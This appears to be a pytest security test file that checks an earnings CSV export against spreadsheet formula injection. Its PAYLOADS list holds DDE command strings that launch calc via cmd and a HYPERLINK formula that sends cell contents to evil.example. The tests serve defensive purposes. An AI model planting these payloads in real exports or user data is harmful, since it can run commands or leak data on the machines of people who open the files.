"""Exports are opened in spreadsheets: no cell of any of them is a formula there.

Every operation that can answer with CSV is tried, on lines whose text an attacker has chosen.
"""

import csv
import io
import re
from collections.abc import Iterator
from datetime import UTC, datetime

import pytest

from domain.earnings import EarningKind, EarningState
from entrypoints.http.presenters.earnings import COLUMNS, csv_of
from entrypoints.http.schemas.earnings import EarningsLine
from tests.builders import a_line
from tests.contract.storage.keeping import keep
from tests.http.shop import Shop, shown
from tests.security.published import Operation
from tests.security.world import CALLERS, World

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
PAYLOADS = (
    *(f"{start}1+1" for start in STARTS),
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("https://evil.example?"&A1,"Click")',
    "+1-1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '"=1+1',
    "\t=1+1",
    '",=1+1',
    "harmless\n=1+1",
    "\r\n=1+1",
)
_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


def _is_formula(cell: str) -> bool:
    """Tell whether a spreadsheet would compute a cell; a plain number is none."""
    return cell.startswith(STARTS) and _NUMBER.fullmatch(cell) is None


def _a_line(reason: str, amount: str = "-63.75") -> EarningsLine:
    return EarningsLine(
        id="ern_1",
        at=datetime(2026, 3, 2, tzinfo=UTC),
        kind=EarningKind.REFUND,
        teacher_id="usr_1",
        booking_id=None,
        payment_id=None,
        payout_id=None,
        amount=amount,
        currency="usd",
        state=EarningState.DEBT,
        available_at=None,
        reason=reason,
    )


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_becomes_a_formula_or_another_row(payload: str) -> None:
    content = csv_of([_a_line(payload), _a_line("harmless")]).decode()

    rows = list(csv.reader(io.StringIO(content, newline="")))
    assert [len(row) for row in rows] == [len(COLUMNS)] * 3
    assert not [cell for row in rows for cell in row if _is_formula(cell)]
    assert rows[1][-1].removeprefix("'") == payload
    assert rows[1][COLUMNS.index("amount")] == "-63.75"


@pytest.fixture(scope="module")
def world() -> Iterator[World]:
    with Shop() as shop:
        world = World(shop)
        # Today's lines explain themselves in words of ours. One day they may quote somebody.
        lines = [
            a_line(f"ern_{number}", teacher_id=world.ours.teacher.id, reason=payload)
            for number, payload in enumerate(PAYLOADS)
        ]
        keep(shop.market.storage, *lines)
        yield world


def test_every_export_is_tried(world: World) -> None:
    assert [each.name for each in _exports(world)] == ["export_earnings_lines"]


def test_no_cell_of_an_export_is_a_formula(world: World) -> None:
    seen = 0
    for operation in _exports(world):
        for kind in CALLERS:
            if kind.counts_as and kind.may_call(operation):
                side = kind.is_of(world)
                query = {name: side.shown[name] for name in operation.query if name == "teacher_id"}
                response = operation.send(
                    kind.caller(world), side.shown, facts=side.facts, query=query
                )
                assert response.headers["content-type"] == "text/csv; charset=utf-8"
                assert response.headers["content-disposition"].startswith("attachment;")
                cells = [cell for row in csv.reader(io.StringIO(response.text)) for cell in row]
                assert not [cell for cell in cells if _is_formula(cell)], operation.name
                seen += len(cells)
    assert seen > 100


def test_what_an_attacker_wrote_is_really_in_the_export(world: World) -> None:
    lines = shown(world.ours.teacher.get("/earnings/lines", limit=200))["items"]

    assert {line["reason"] for line in lines} >= set(PAYLOADS)


def _exports(world: World) -> list[Operation]:
    return [each for each in world.operations if each.answers("text/csv")]
